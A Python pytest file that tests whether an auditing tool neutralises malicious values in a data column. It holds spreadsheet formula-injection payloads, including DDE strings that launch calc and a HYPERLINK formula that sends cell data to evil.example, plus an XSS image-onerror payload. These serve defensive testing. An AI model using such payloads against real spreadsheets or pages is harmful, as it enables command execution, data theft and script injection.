"""Formulas and markup in a table are data: they are counted, and no export hands them on to be run."""

from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from audits.result_pages import _csv_lines
from tests.command import Ran, assay, loans, write_csv

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"ok")',
    "+SUM(1+1)*cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
)
MARKUP = "<img src=x onerror=alert(1)>"
COLUMN = "=1+1|sex"


@pytest.fixture(scope="module")
def audited(tmp_path_factory: pytest.TempPathFactory) -> tuple[Ran, Path]:
    folder = tmp_path_factory.mktemp("formulas")
    columns: dict[str, Any] = dict(loans(600))
    groups = (*FORMULAS, MARKUP)
    columns[COLUMN] = [groups[place % len(groups)] for place in range(600)]
    data = write_csv(folder / "=loans.csv", columns)
    asked = ["--label", "repaid", "--predictions", "approved", "--sensitive", COLUMN, "--out", folder / "out"]
    return assay(folder / "home", "audit", "--data", data, *asked), folder / "out"


def test_they_are_counted_as_the_groups_that_they_name(audited: tuple[Ran, Path]) -> None:
    ran, out = audited
    assert ran.code == 0, ran.err
    evidence = json.loads((out / "evidence.json").read_bytes())
    named = {value for m in evidence["measures"] for value in m["slice"].values()}
    assert {*FORMULAS, MARKUP} <= {part.strip() for name in named for part in name.split(" / ")} | named


def test_no_cell_of_the_measures_as_a_table_begins_like_a_formula(audited: tuple[Ran, Path]) -> None:
    evidence = json.loads((audited[1] / "evidence.json").read_bytes())
    rows = list(csv.reader(io.StringIO("".join(_csv_lines(evidence)))))
    assert any(COLUMN in cell for row in rows for cell in row), "the formulas must be there to show anything"
    for row in rows[1:]:
        for cell in row:
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                float(cell)  # a number is no formula


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.odd: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if any(name.startswith("on") for name, _ in attrs) or tag == "script":
            self.odd.append(tag)
        if tag == "img" and any(name == "src" and value == "x" for name, value in attrs):
            self.odd.append(tag)


def test_markup_in_a_group_is_text_in_the_report(audited: tuple[Ran, Path]) -> None:
    pages = list(audited[1].glob("*.html"))
    for path in pages:
        page = _Page()
        page.feed(path.read_text("utf-8"))
        assert page.odd == []
    assert (audited[1] / "report.pdf").read_bytes().startswith(b"%PDF-")
